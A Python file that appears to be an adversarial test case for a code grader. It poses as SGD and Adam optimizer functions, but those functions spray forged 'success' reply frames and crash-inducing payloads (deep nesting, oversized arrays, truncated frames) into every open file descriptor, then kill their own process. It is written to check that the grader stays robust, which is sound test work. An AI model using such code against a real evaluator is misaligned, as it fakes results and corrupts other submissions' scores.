"""ATTACK forge_replies: answer for the worker, on the grader's own channel, with poison.

What it tries: sgd_update and adam_update write into every descriptor they may hold (the
worker's reply pipe among them) well-formed frames of the grader's protocol: replies for the
next hundreds of request ids claiming success, with values meant to crash or stall the trusted
side (nesting at the depth limit, complex and huge arrays, a header advertising gigabytes,
truncated frames), then kill their own process. The optimizers' values are zeros (or ones)
anyway, in the honest twin too.

What the grader must guarantee: a forged, malformed or oversized reply fails this submission's
own call and never crashes, stalls or misleads the grader: every other submission of the batch
keeps its exact score, and these functions earn no more than the honest twin (zeros).
"""

import json
import os
import struct

import numpy as np

ATTACK = True  # the honest twin sets this to False


def _frame(header: dict, body: bytes = b"") -> bytes:
    head = json.dumps(header).encode()
    payload = struct.pack(">I", len(head)) + head + body
    return struct.pack(">I", len(payload)) + payload


def _poison() -> list[bytes]:
    nested: object = 0
    for _ in range(11):
        nested = [nested] * 3
    frames = [_frame({"id": 0, "ok": True, "warnings": "x" * 50, "seconds": "soon",
                      "tree": {"__dict__": [["result", nested]]}, "arrays": []})]
    for rid in range(1, 400):
        frames.append(_frame({"id": rid, "ok": True, "tree": {"__dict__": [["result",
                              {"__nd__": 0}]]}, "arrays": [{"dtype": "<f8", "shape": [4000, 4000],
                                                            "offset": 0}]}))
    frames.append(struct.pack(">I", 0xFFFFFFF0) + b"{")
    frames.append(_frame({"id": 1, "ok": True, "tree": {"__nd__": 0},
                          "arrays": [{"dtype": "<c16", "shape": [2], "offset": 0}]}, b"\0" * 32))
    return frames


def _attack() -> None:
    frames = _poison()
    for fd in range(3, 256):  # the reply pipe among them (no /proc, and no fstat of it)
        try:
            os.set_blocking(fd, False)
            for frame in frames:
                os.write(fd, frame)
        except OSError:
            continue
    os.kill(os.getpid(), 9)


def _zeros(d):
    return {k: np.zeros_like(v) for k, v in d.items()}


def sgd_update(params, grads, lr):
    if ATTACK:
        _attack()
    return _zeros(params)


def init_state(params):
    return {"d" + k: np.ones_like(v) for k, v in params.items()}


def momentum_update(params, grads, v, lr, beta=0.9):
    return _zeros(params), _zeros(v)


def rmsprop_update(params, grads, s, lr, beta=0.999, eps=1e-8):
    return _zeros(params), _zeros(s)


def adam_update(params, grads, v, s, t, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
    if ATTACK:
        _attack()
    return _zeros(params), _zeros(v), _zeros(s)
